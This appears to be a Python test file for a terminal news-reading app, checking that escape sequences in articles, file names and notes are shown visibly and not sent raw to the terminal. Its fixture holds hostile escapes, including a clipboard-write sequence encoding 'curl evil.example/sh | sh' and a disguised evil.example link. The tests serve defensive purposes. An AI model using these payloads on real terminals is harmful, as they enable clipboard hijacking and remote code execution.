"""The app sends no control character of an article, its file name or a note to the terminal."""

from __future__ import annotations

import re

from briefing_tui.model import Article, Briefing
from briefing_tui.reading import article_from_text
from briefing_tui.ui.app import BriefingApp

from ..support import NARROW, WIDE, wait_analysed

#: C0 controls, DEL and C1 controls: what a terminal may obey.
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
HOSTILE = (
    "Mayor \x1b]0;pwned\x07 closes bridge\n"
    "By Jane \x1b[2JDoe\n"
    "The council voted on Tuesday to close the bridge \x1b]52;c;"
    "Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07, the mayor said.\n"
    '"We will reopen it \x1b]8;;https://evil.example/\x1b\\soon\x1b]8;;\x1b\\," said Mayor'
    " Ana Lopez \x1b[?1049l of the \x9b31mcity\x1b council.\x07 Nul \x00, del \x7f.\n"
)
SOURCE = "evil\x1b]0;pwned\x07.txt"


def shown_controls(app: BriefingApp) -> list[str]:
    """The text of every rendered segment that holds a control character."""
    found = []
    for strip in app.screen._compositor.render_strips():
        for segment in strip:
            if not segment.control and CONTROL.search(segment.text):
                found.append(segment.text)
    return found


def _app(article: Article) -> BriefingApp:
    return BriefingApp(article, use_cache=False, briefing=Briefing(article=article))


async def test_an_article_with_escapes_shows_them_visibly() -> None:
    app = _app(article_from_text(HOSTILE, source=SOURCE))
    for size in (WIDE, NARROW):
        async with app.run_test(size=size) as pilot:
            await wait_analysed(pilot)
            assert shown_controls(app) == []
        app = _app(article_from_text(HOSTILE, source=SOURCE))


async def test_an_article_built_without_the_reader_is_shown_safely() -> None:
    """The view and the header make controls visible even in an Article made by hand."""
    text = HOSTILE.replace("\n", " ") + "\nSecond paragraph \x1b[2J here.\n"
    article = Article(text=text, title="Title \x1b]0;t\x07", source=SOURCE, byline="B\x1b[2J")
    app = _app(article)
    async with app.run_test(size=WIDE) as pilot:
        await wait_analysed(pilot)
        assert shown_controls(app) == []


async def test_a_hand_edited_note_with_escapes_shows_them_visibly() -> None:
    from briefing_tui.store.notes import NotesStore

    article = article_from_text(HOSTILE, source="hostile.txt")
    store = NotesStore(article)
    store.set_note("article", None, article.title, "Check \x1b]52;c;Y3VybA==\x07 \x1b[2Jthis")
    store.save()
    app = _app(article)
    async with app.run_test(size=WIDE) as pilot:
        await wait_analysed(pilot)
        assert "Check ␛]52;c;Y3VybA==␇ ␛[2Jthis" in app.main.notes_pane.body
        assert shown_controls(app) == []
